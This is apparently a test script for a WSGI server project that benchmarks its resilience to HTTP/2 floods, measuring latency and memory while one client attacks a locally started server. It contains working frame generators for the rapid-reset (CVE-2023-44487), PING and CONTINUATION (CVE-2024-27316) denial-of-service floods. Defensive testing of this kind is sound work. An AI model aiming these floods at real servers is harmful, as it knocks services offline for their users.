"""What a client of HTTP/2 that floods costs the others: their latency, and the server's memory.

    python tests/floods.py [--engine embedded] [--only resets ...] [--seconds 4] [--pause 1]

The short form of this is in test_http2_floods.py. One client sends a flood, again on a new
connection whenever the server has closed the last, or after a pause, while wrk asks for a small
answer.
"""

from __future__ import annotations

import argparse
import re
import socket
import sys
import threading
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import TYPE_CHECKING

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(Path(__file__).resolve().parent / "engines"))

import hpack
from harness.process import run_server

from bench import wrk
from prowingen_wsgi import _native

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from harness.wire import Address

    from bench.load import LoadResult

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0x1, 0x3, 0x4, 0x6, 0x9
END_STREAM, END_HEADERS = 0x1, 0x4
MIB = 1 << 20
OTHERS = 4
"""wrk's connections, without the flood and beside it."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    size = len(payload).to_bytes(3, "big")
    return size + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def head() -> bytes:
    fields = [(":method", "GET"), (":scheme", "http"), (":authority", "a"), (":path", "/")]
    block: bytes = hpack.Encoder().encode(fields, huffman=False)
    return block


def resets() -> Iterator[bytes]:
    """10,000 requests, each of which is reset at once (CVE-2023-44487)."""
    block, cancel = head(), (8).to_bytes(4, "big")
    for start in range(1, 20_000, 200):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
            + frame(RST_STREAM, 0, stream, cancel)
            for stream in range(start, start + 200, 2)
        )


def pings() -> Iterator[bytes]:
    """100,000 of them, whose answers are not read."""
    for _ in range(1000):
        yield frame(PING, 0, 0, bytes(8)) * 100


def continuations() -> Iterator[bytes]:
    """A header block of 1 GiB (CVE-2024-27316)."""
    yield frame(HEADERS, END_STREAM, 1, head())
    piece = b"\x00\x01x\x7f\x80\x7c" + b"y" * 15_999  # one field
    for _ in range((1 << 30) // len(piece)):
        yield frame(CONTINUATION, 0, 1, piece)


FLOODS: dict[str, Callable[[], Iterator[bytes]]] = {
    flood.__name__: flood for flood in (resets, pings, continuations)
}


@dataclass
class Flooder:
    connections: int = 0
    closed: int = 0
    """By the server, before the flood was over."""
    sent: int = 0
    pause: float = 0.0
    over: threading.Event = field(default_factory=threading.Event)

    def run(self, address: Address, flood: Callable[[], Iterator[bytes]]) -> None:
        while not self.over.wait(self.pause):
            self.connections += 1
            assert isinstance(address, tuple)
            with socket.create_connection(address, timeout=10) as sock:
                try:
                    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
                    for piece in flood():
                        sock.sendall(piece)
                        self.sent += len(piece)
                        if self.over.is_set():
                            return
                    while sock.recv(1 << 16):
                        pass
                except TimeoutError:
                    continue  # it was neither read nor ended
                except OSError:  # ended with what was on its way unread
                    pass
                self.closed += 1


@contextmanager
def flooding(
    address: Address, flood: Callable[[], Iterator[bytes]], pause: float
) -> Iterator[Flooder]:
    flooder = Flooder(pause=pause)
    thread = threading.Thread(target=flooder.run, args=(address, flood))
    thread.start()
    try:
        yield flooder
    finally:
        flooder.over.set()
        thread.join()


def resident(pid: int, which: str) -> float:
    """MiB; `which`: VmRSS or VmHWM."""
    status = Path(f"/proc/{pid}/status").read_text()
    found = re.search(rf"{which}:\s+(\d+) kB", status)
    return int(found[1]) / 1024 if found else 0.0


def measure(engine: str, name: str, seconds: float, pause: float) -> bool:
    """Whether every other request was answered, and every flood ended by the server."""
    with run_server("bench.apps:hello", engine, "--threads", "8") as server:

        def ask(seconds: float) -> LoadResult:
            return wrk.run(server.url, connections=OTHERS, seconds=seconds, options=[])

        ask(1)
        quiet = ask(seconds)
        before = resident(server.pid, "VmRSS")
        with flooding(server.address, FLOODS[name], pause) as flooder:
            flooded = ask(seconds)
        peak = resident(server.pid, "VmHWM")
    print(
        f"{engine} {name}: p99 {quiet.p99_ms} -> {flooded.p99_ms} ms, "
        f"{quiet.requests_per_second:,.0f} -> {flooded.requests_per_second:,.0f} requests/s, "
        f"{before:.1f} MiB -> at most {peak:.1f}; {flooder.connections} floods, "
        f"{flooder.closed} ended by the server, {flooder.sent / MIB:,.1f} MiB sent",
        flush=True,
    )
    return flooded.errors == 0 and flooder.closed >= flooder.connections - 1


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.partition("\n")[0])
    parser.add_argument("--engine", choices=_native.engines(), nargs="*", help="all by default")
    parser.add_argument("--only", choices=FLOODS, nargs="*", help="some of the floods")
    parser.add_argument("--seconds", type=float, default=4, help="of each (4)")
    parser.add_argument("--pause", type=float, default=0, help="seconds before each flood (0)")
    options = parser.parse_args()
    held = [
        measure(engine, name, options.seconds, options.pause)
        for engine in options.engine or sorted(_native.engines())
        for name in options.only or FLOODS
    ]
    return 0 if all(held) else 1


if __name__ == "__main__":
    sys.exit(main())
